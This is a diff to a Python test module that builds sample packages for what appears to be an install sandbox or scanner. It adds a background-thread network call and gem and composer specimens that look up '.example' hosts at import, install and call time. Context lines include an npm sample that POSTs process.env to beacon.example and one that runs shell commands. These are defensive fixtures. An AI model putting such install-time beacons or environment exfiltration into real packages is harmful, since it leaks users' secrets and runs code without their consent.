@@ -7,7 +7,7 @@ import textwrap
 import zipfile
 from dataclasses import dataclass, field
 
-from tests.sandbox.samples import npm, sdist, wheel
+from tests.sandbox.samples import composer, crate, gem, jar, npm, sdist, wheel
 
 
 @dataclass(frozen=True)
@@ -136,6 +136,10 @@ BEHAVIOURS = {
             os._exit(0)
         os.wait()
     """),
+    "thread": _python("""
+        import threading, urllib.request
+        threading.Thread(target=lambda: urllib.request.urlopen("https://thread.example/in"), daemon=True).start()
+    """),
     "when called": _python("""
         def report(url="https://metrics.example/ping"):
             import urllib.request
@@ -179,6 +183,46 @@ BEHAVIOURS = {
         fetch('https://beacon.example/in', { method: 'POST', body: JSON.stringify(process.env) }).catch(() => {})
     """),
     "npm shell": _node("require('child_process').execSync('id; uname -a')\n"),
+}
+
+ECOSYSTEMS = {
+    "gem": Specimen(
+        "gem",
+        gem(
+            "sample",
+            textwrap.dedent("""
+        require 'socket'
+        Socket.getaddrinfo('import.gem.example', 80) rescue nil
+        module Sample
+          def self.when_called(name)
+            Socket.getaddrinfo('execute.gem.example', 80) rescue nil
+          end
+        end
+    """),
+            extension=textwrap.dedent("""
+        require 'socket'
+        Socket.getaddrinfo('install.gem.example', 80) rescue nil
+        File.write('Makefile', "all:\\ninstall:\\nclean:\\n")
+    """),
+        ),
+    ),
+    "plain gem": Specimen("gem", gem("sample", "module Sample\n  def self.one\n    1\n  end\nend\n")),
+    "composer": Specimen(
+        "composer",
+        composer(
+            "sample/sample",
+            textwrap.dedent("""\
+        <?php
+        gethostbyname('import.composer.example');
+        function sample_when_called(string $name) { return gethostbyname('execute.composer.example'); }
+    """),
+        ),
+    ),
+    "plain composer": Specimen("composer", composer("sample/sample", "<?php\nfunction one() { return 1; }\n")),
+    "no composer.json": Specimen("composer", ("sample.zip", wheel("sample")[1])),
+    "wolfi": Specimen("apk", ("sample.apk", b"")),
+    "crate without cargo": Specimen("cargo", crate("sample")),
+    "jar without java": Specimen("maven", jar("sample", {})),
 }
 
 ATTACKS = {
@@ -399,4 +443,4 @@ FLOODS = {
     ),
 }
 
-ALL = BENIGN | BEHAVIOURS | ATTACKS | FLOODS
+ALL = BENIGN | BEHAVIOURS | ECOSYSTEMS | ATTACKS | FLOODS
